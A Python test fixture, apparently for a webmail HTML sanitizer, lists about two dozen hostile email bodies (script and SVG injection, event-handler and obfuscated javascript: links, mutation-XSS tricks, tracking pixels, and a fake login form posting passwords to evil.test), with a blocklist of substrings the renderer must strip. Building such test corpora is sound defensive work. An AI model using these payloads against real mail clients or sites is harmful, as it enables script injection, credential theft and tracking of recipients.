"""HTML mail bodies that try to run script, phone home or restyle the webmail page.

Each entry: (name, HTML body). `FORBIDDEN` are substrings that must not appear inside
the rendered message body (case-insensitive).
"""

CORPUS = [
    (
        "svg-script",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script><circle r="5"/></svg>',
    ),
    (
        "svg-animate",
        '<svg><animate onbegin="alert(\'anim\')" attributeName="x" dur="1s"/>'
        '<a><animate attributeName="href" values="javascript:alert(\'anim2\')"/><text>click</text></a></svg>',
    ),
    ("svg-set", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
    ("script", "<script>alert('script')</script><p>hello</p>"),
    ("script-src", '<script src="https://evil.test/x.js"></script>'),
    ("img-onerror", '<img src="x" onerror="alert(\'onerror\')">'),
    ("body-onload", "<body onload=\"alert('onload')\">text</body>"),
    ("js-link", "<a href=\"javascript:alert('js')\">click me</a>"),
    (
        "js-link-entity",
        '<a href="jav&#x09;ascript:alert(1)">tab</a><a href="&#106;avascript:alert(1)">ent</a>',
    ),
    ("data-link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'),
    (
        "form",
        '<form action="https://evil.test/steal" method="post"><input name="password" type="password">'
        '<button formaction="javascript:alert(1)">Log in</button></form>',
    ),
    (
        "css-url",
        '<div style="background-image: url(https://evil.test/track.png)">bg</div>'
        '<p style="background:url(&quot;https://evil.test/2&quot;)">bg2</p>',
    ),
    (
        "css-import",
        "<style>@import url(https://evil.test/x.css); body { background: url(https://evil.test/y) }</style>",
    ),
    ("css-expression", '<div style="width: expression(alert(1))">ie</div>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0; url=https://evil.test/">'),
    (
        "iframe",
        '<iframe src="https://evil.test/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    ),
    ("object-embed", '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/y">'),
    ("base", '<base href="https://evil.test/"><a href="/relative">rel</a>'),
    ("link-css", '<link rel="stylesheet" href="https://evil.test/x.css">'),
    (
        "math",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("remote-img", '<img src="https://evil.test/pixel.gif" width="1" height="1">'),
    ("srcset", '<img srcset="https://evil.test/a.png 1x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'),
    ("details-ontoggle", "<details open ontoggle=\"alert('toggle')\"><summary>s</summary></details>"),
]

FORBIDDEN = [
    "<script",
    "onerror",
    "onload",
    "onbegin",
    "ontoggle",
    "onmouseover",
    "javascript:",
    "<svg",
    "<animate",
    "<set",
    "<form",
    "<input",
    "<iframe",
    "<object",
    "<embed",
    "<meta",
    "<base",
    "<link",
    "url(",
    "expression(",
    "@import",
    "evil.test",
    "data:text/html",
    "<style",
    "<math",
    "formaction",
    "srcdoc",
]


def corpus_message(rcpt: str = "alice@example.org") -> str:
    html = "\n".join(f'<div class="case">{h}</div>' for _, h in CORPUS)
    return (
        f"From: Mallory <mallory@remote.test>\nTo: {rcpt}\nSubject: XSS corpus\nMIME-Version: 1.0\n"
        "Content-Type: multipart/alternative; boundary=B\n\n--B\nContent-Type: text/plain\n\nplain version\n"
        f"--B\nContent-Type: text/html; charset=utf-8\n\n<html><head><title>t</title></head><body>{html}"
        "<p id=marker>corpus-end</p></body></html>\n--B--\n"
    )
